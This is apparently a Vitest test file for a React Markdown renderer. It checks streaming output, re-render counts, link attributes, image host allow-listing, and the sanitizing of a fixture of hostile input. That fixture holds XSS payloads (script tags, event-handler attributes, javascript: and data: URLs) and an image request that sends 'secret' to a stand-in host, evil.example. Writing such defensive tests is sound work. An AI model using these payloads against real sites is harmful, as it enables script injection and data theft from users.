import type { ReactNode } from 'react';
import { act } from 'react';
import { createRoot } from 'react-dom/client';
import { afterEach, beforeEach, describe, expect, it, vi } from 'vitest';
import { createDiagrams } from '../../diagrams/diagrams.ts';
import { diagramPage } from '../../diagrams/page.ts';
import { languageFor } from '../../i18n/strings.ts';
import { Controller } from '../../session/controller.ts';
import { PageContext } from '../context.ts';
import { ImageDomains } from '../image-target.ts';
import { Markdown } from './Markdown.tsx';

const renders = vi.hoisted(() => ({ count: 0 }));
vi.mock('react-markdown', async (original) => {
  const { default: Real } = await original<typeof import('react-markdown')>();
  return {
    default: (props: Parameters<typeof Real>[0]) => {
      renders.count += 1;
      return Real(props);
    },
  };
});

const SAMPLE = `# Title

A paragraph with **bold**, *italic*, ~~gone~~, \`code\` and 20~25 degrees.

- one
- > 25 points
  - nested [link](https://example.com/a_b)

| a | b |
|---|--:|
| 1 | 2 |

\`\`\`js
const a = [1, 2]; // **not bold**
\`\`\`

See [the guide][g] and <https://example.com>.

[g]: https://example.com/guide

Costs $5 and $6. Ends with a long word`;

const HOSTILE = `<script>alert(1)</script><img src=x onerror=alert(1)>
<svg onload=alert(1)><iframe src="https://evil.example"></iframe><style>*{display:none}</style>

[a](javascript:alert(1)) [b](JAVASCRIPT:alert%281%29) [c](data:text/html;base64,PHNjcmlwdD4=) <javascript:alert(1)>

![x](https://evil.example/?q=secret) ![y](javascript:alert(1)) ![z](//evil.example/z "t")

[ref]: javascript:alert(1)
[click][ref]

<form action="https://evil.example"><button formaction="javascript:alert(1)">x</button></form>

| <b onclick=alert(1)>a</b> | [d](vbscript:x) |
|---|---|
| <img src=x> | ![](https://evil.example/w) |
`;

describe('Markdown', () => {
  let container: HTMLDivElement;
  let root: ReturnType<typeof createRoot>;
  const page = {
    controller: new Controller({
      emit: () => {},
      options: { kind: 'invalid', appearance: fakeAppearance() },
    }),
    language: languageFor('en'),
    announce: () => {},
    showShortcuts: () => {},
    diagrams: createDiagrams(diagramPage),
  };

  beforeEach(() => {
    vi.stubGlobal('IS_REACT_ACT_ENVIRONMENT', true);
    container = document.createElement('div');
    document.body.append(container);
    root = createRoot(container);
    renders.count = 0;
  });
  afterEach(() => {
    act(() => root.unmount());
    container.remove();
    vi.unstubAllGlobals();
  });

  function show(node: ReactNode): string {
    act(() => root.render(<PageContext value={page}>{node}</PageContext>));
    return container.innerHTML;
  }

  it('renders the same streamed to the end as at once', () => {
    for (let at = 1; at <= SAMPLE.length; at += 3) show(<Markdown text={SAMPLE.slice(0, at)} streaming />);
    const streamed = show(<Markdown text={SAMPLE} streaming />);
    const settled = show(<Markdown text={SAMPLE} />);
    expect(streamed).toBe(settled);
    act(() => root.unmount());
    root = createRoot(container);
    expect(show(<Markdown text={SAMPLE} />)).toBe(settled);
    expect(settled).toContain('<strong>bold</strong>');
    expect(settled).toContain('href="https://example.com/guide"');
    expect(container.querySelectorAll('table')).toHaveLength(1);
  });

  it('renders only the last block again: 500 deltas over 60 paragraphs', () => {
    const text = Array.from({ length: 60 }, (_, n) => `Paragraph ${n} with **some** words in it.`).join(
      '\n\n',
    );
    const step = Math.ceil(text.length / 500);
    let deltas = 0;
    for (let at = step; at < text.length + step; at += step) {
      deltas += 1;
      show(<Markdown text={text.slice(0, at)} streaming />);
    }
    expect(container.querySelectorAll('p')).toHaveLength(60);
    // One render a delta for the growing block, one more for each block that another one follows.
    expect(renders.count).toBeLessThanOrEqual(deltas + 2 * 60);
  });

  it('shows what is unfinished without its marks', () => {
    expect(show(<Markdown text={'Some **bold te'} streaming />)).toContain('<strong>bold te</strong>');
    show(<Markdown text={'See [the gui'} streaming />);
    expect(container.textContent).toBe('See the gui');
    show(<Markdown text={'See [the guide](https://exa'} streaming />);
    expect(container.querySelector('a')).toBeNull();
  });

  it('keeps every prefix of hostile text inert', () => {
    for (let at = 1; at <= HOSTILE.length; at += 1) {
      show(<Markdown text={HOSTILE.slice(0, at)} streaming={at < HOSTILE.length} />);
      expect(
        container.querySelector('script, iframe, style, form, object, embed, svg[onload], b'),
      ).toBeNull();
      for (const image of container.querySelectorAll('img')) {
        expect(image.src).not.toContain('evil');
      }
      for (const element of container.querySelectorAll('*')) {
        for (const { name, value } of element.attributes) {
          expect(name.startsWith('on')).toBe(false);
          if (name === 'href' || name === 'src') expect(value).toMatch(/^(?:https?:\/\/|mailto:|#)/);
        }
      }
    }
    expect(container.textContent).toContain('<script>alert(1)</script>');
  });

  it('opens links elsewhere and without a way back', () => {
    show(<Markdown text="[x](https://example.com/)" />);
    const link = container.querySelector('a');
    expect(link?.target).toBe('_blank');
    expect(link?.rel).toBe('noopener noreferrer');
  });

  it('loads images only from hosts that the thread allows; others become a link', () => {
    const text = '![chart](https://cdn.example.com/c.png)';
    show(<Markdown text={text} />);
    expect(container.querySelector('img')).toBeNull();
    expect(container.querySelector('a')?.textContent).toBe('Image not loaded: chart');
    show(
      <ImageDomains value={['example.com']}>
        <Markdown text={text} />
      </ImageDomains>,
    );
    expect(container.querySelector('img')?.getAttribute('src')).toBe('https://cdn.example.com/c.png');
  });

  it('names the language of code and keeps footnotes whole', () => {
    show(<Markdown text={'```python\nprint(1)\n```'} />);
    expect(container.querySelector('.ck-code-head')?.textContent).toContain('python');
    show(<Markdown text={'Fact.[^1]\n\nMore.\n\n[^1]: Source.'} />);
    expect(container.querySelector('section.footnotes, [data-footnotes]')?.textContent).toContain('Source.');
  });
});

function fakeAppearance() {
  return {
    locale: 'en',
    frameTitle: undefined,
    theme: { colorScheme: 'light' as const, radius: 'pill' as const, density: 'normal' as const },
  };
}
